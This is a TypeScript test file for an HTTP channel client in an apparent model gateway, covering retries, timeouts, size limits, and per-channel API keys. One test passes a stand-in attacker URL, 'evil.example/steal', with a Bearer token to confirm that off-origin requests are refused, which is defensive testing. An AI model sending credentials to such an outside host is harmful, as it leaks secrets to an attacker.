import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createChannelHttp, parseRetryAfter } from '../../src/channels/http.js';

let server: Server;
let origin = '';
const seen: string[] = [];

beforeAll(async () => {
  server = createServer((req, res) => {
    seen.push(`${req.method ?? ''} ${req.url ?? ''} ${req.headers['authorization'] ?? ''}`);
    if (req.url === '/lose') return void req.socket.destroy();
    if (req.url === '/hang') return;
    if (req.url === '/huge') {
      res.writeHead(200, { 'content-type': 'application/json' });
      const block = Buffer.alloc(1024 * 1024, 0x20);
      let sent = 0;
      const more = (): void => {
        while (sent < 12 && res.write(block)) sent += 1;
        if (sent >= 12) res.end();
        else
          res.once('drain', () => {
            sent += 1;
            more();
          });
      };
      more();
      res.on('error', () => undefined);
      return;
    }
    if (req.url?.endsWith('/text')) return void res.writeHead(502, { 'content-type': 'text/plain' }).end('bad gateway');
    res.writeHead(429, { 'content-type': 'application/json', 'retry-after': '7' }).end(JSON.stringify({ ok: false }));
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
});
afterAll(async () => {
  server.closeAllConnections();
  await new Promise<void>((resolve) => server.close(() => resolve()));
});

describe('channel HTTP', () => {
  it('answers parsed JSON, headers and Retry-After', async () => {
    const http = createChannelHttp({ baseUrl: `${origin}/base/` });
    const answer = await http.request({ method: 'POST', path: '/x', json: { a: 1 }, headers: { authorization: 'Bearer k' } });
    expect(answer).toMatchObject({ kind: 'response', status: 429, json: { ok: false }, retryAfterMs: 7000, headers: { 'retry-after': '7' } });
    expect(seen.at(-1)).toBe('POST /base/x Bearer k');
    expect(await http.request({ method: 'GET', path: '/text' })).toMatchObject({ kind: 'response', status: 502, json: undefined, text: 'bad gateway' });
    await http.close();
  });

  it('a refused connection is not_sent; a destroyed socket or a timeout after sending is lost', async () => {
    const down = createChannelHttp({ baseUrl: 'http://127.0.0.1:1' });
    expect(await down.request({ method: 'POST', path: '/x', json: {} })).toEqual({ kind: 'not_sent', reason: 'ECONNREFUSED' });
    await down.close();
    const http = createChannelHttp({ baseUrl: origin, timeoutMs: 300 });
    expect(await http.request({ method: 'POST', path: '/lose', json: {} })).toMatchObject({ kind: 'lost' });
    expect(await http.request({ method: 'POST', path: '/hang', json: {} })).toEqual({ kind: 'lost', reason: 'no answer within 300 ms' });
    const big = createChannelHttp({ baseUrl: origin, timeoutMs: 10_000 });
    expect(await big.request({ method: 'GET', path: '/huge' })).toEqual({ kind: 'lost', reason: 'answer larger than 8388608 bytes' });
    await big.close();
    await http.close();
  });

  it('refuses any URL off the channel origin, so the key cannot leave it', async () => {
    const http = createChannelHttp({ baseUrl: origin });
    const before = seen.length;
    expect(await http.request({ method: 'GET', path: 'http://evil.example/steal', headers: { authorization: 'Bearer k' } })).toEqual({
      kind: 'not_sent',
      reason: 'URL off the channel origin refused',
    });
    expect(seen.length).toBe(before);
    await http.close();
  });

  it('parses Retry-After as seconds or an HTTP date, capped at an hour', () => {
    expect(parseRetryAfter('2')).toBe(2000);
    expect(parseRetryAfter(new Date(10_000).toUTCString(), 4_000)).toBe(6000);
    expect(parseRetryAfter('999999')).toBe(3_600_000);
    expect(parseRetryAfter('soon')).toBeUndefined();
    expect(parseRetryAfter(undefined)).toBeUndefined();
  });
});

describe('channel contexts', () => {
  it('one pool per channel, the target upstream model, the key from the environment; no context for the sandbox', async () => {
    const { parseChannelsConfig } = await import('../../src/channels/config.js');
    const { createChannelContexts } = await import('../../src/channels/context.js');
    const { createChannelMedia } = await import('../../src/channels/media.js');
    const config = parseChannelsConfig(
      JSON.stringify({
        channels: { up: { protocol: 'mediagate', base_url: `${origin}/`, api_key_env: 'UP_KEY' } },
        routes: [{ model: '*', to: [{ channel: 'up', upstream_model: 'm2' }, { channel: 'sandbox' }] }],
      }),
      { UP_KEY: 'secret-up' },
    );
    const contexts = createChannelContexts(config, {
      media: createChannelMedia(),
      log: { debug: () => undefined, info: () => undefined, warn: () => undefined },
    });
    const [up, sandbox] = config.targetsFor('vendora/famw-2.7-t2v');
    const ctx = contexts.forTarget(up!);
    expect({ channel: ctx.channel, baseUrl: ctx.baseUrl, apiKey: ctx.apiKey, upstreamModel: ctx.upstreamModel }).toEqual({
      channel: 'up',
      baseUrl: origin,
      apiKey: 'secret-up',
      upstreamModel: 'm2',
    });
    expect(contexts.forTarget(up!).http).toBe(ctx.http);
    expect(() => contexts.forTarget(sandbox!)).toThrow(/sandbox/);
    expect(await ctx.http.request({ method: 'GET', path: '/text' })).toMatchObject({ kind: 'response', status: 502 });
    await contexts.close();
  });
});
